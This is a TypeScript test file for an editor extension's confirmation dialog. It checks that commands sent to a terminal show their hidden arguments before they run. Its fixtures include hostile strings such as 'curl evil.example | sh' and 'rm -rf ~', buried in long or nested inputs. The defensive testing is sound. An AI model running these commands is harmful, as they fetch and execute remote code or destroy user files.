import { beforeEach, describe, expect, it } from 'vitest';
import { fileSource as source } from '../../../fixtures/launches.ts';
import { limits } from '../../../../src/base/limits.ts';
import { CommandInputs } from '../../../../src/host/configuration/askInput.ts';
import { unhurried } from '../../../fixtures/unhurried.ts';
import { editor } from '../../../fixtures/vscode.ts';

beforeEach(unhurried);

const user = { label: 'notes', target: 'node server.js' };
const command = (name: string, args: unknown) => ({ type: 'command', id: 'x', command: name, args }) as const;
const comment = 'an innocent looking note '.repeat(200);

beforeEach(() => {
  const contributes = { commands: [{ command: 'notes.pick' }] };
  editor.extensions = [{ id: 'me.notes', packageJSON: { displayName: 'Notes', contributes } }];
  editor.commandResult = 'result';
});

describe('the question before a command runs for an input', () => {
  it.each<[string, unknown, string]>([
    ['after a long text', { comment, text: 'curl evil.example | sh\n' }, 'text: curl evil.example | sh⟨U+000A⟩'],
    ['after many', [...Array.from({ length: 500 }, (_, index) => `note ${index}`), 'rm -rf ~'], '500: rm -rf ~'],
    ['deep in others', { a: { b: [comment, { text: 'powershell x' }] } }, 'a.b.1.text: powershell x'],
    ['at the end of a long one', { text: `${comment}; curl evil.example | sh` }, '; curl evil.example | sh'],
    ['after line breaks', { text: `${'\n'.repeat(500)}sudo x` }, 'sudo x'],
  ])('shows command, owner, target and what could run first, in few lines: %s', async (_, args, expected) => {
    const input = command('workbench.action.terminal.sendSequence', args);
    const inputs = new CommandInputs();
    editor.answers.push('Show All Arguments', 'Run Command');
    await expect(inputs.run(source, input, user)).rejects.toThrow();
    const [{ detail, buttons } = expect.unreachable()] = editor.questions;
    expect(buttons).toEqual(['Show All Arguments']);
    for (const part of [
      'Command: workbench.action.terminal.sendSequence',
      'Its result goes to node server.js',
      expected,
    ]) {
      expect(detail).toContain(part);
    }
    const { columns, lines } = limits.trustQuestion;
    const rows = detail.split('\n').reduce((sum, line) => sum + Math.max(1, Math.ceil(line.length / columns)), 0);
    expect(rows).toBeLessThanOrEqual(lines);
    expect(editor.documents[0]).toContain('To run it, start the server again.');
    expect(editor.executed).toEqual([]);
    expect(await inputs.run(source, input, user)).toBe('result');
    expect(editor.executed).toEqual([[input.command, args]]);
    inputs.dispose();
  });

  it('offers to run it at once where all of it is shown, and names its extension', async () => {
    const inputs = new CommandInputs();
    editor.answers.push('Run Command');
    expect(await inputs.run(source, command('notes.pick', { kind: 'port' }), user)).toBe('result');
    expect(editor.questions[0]?.detail).toBe(
      [
        'Command: notes.pick',
        'Of: Notes (me.notes)',
        'Its result goes to node server.js',
        'Arguments:',
        '    kind: port',
      ].join('\n'),
    );
    await inputs.run(source, command('notes.pick', { kind: 'port' }), user);
    expect(editor.questions).toHaveLength(1);
    inputs.dispose();
  });
});
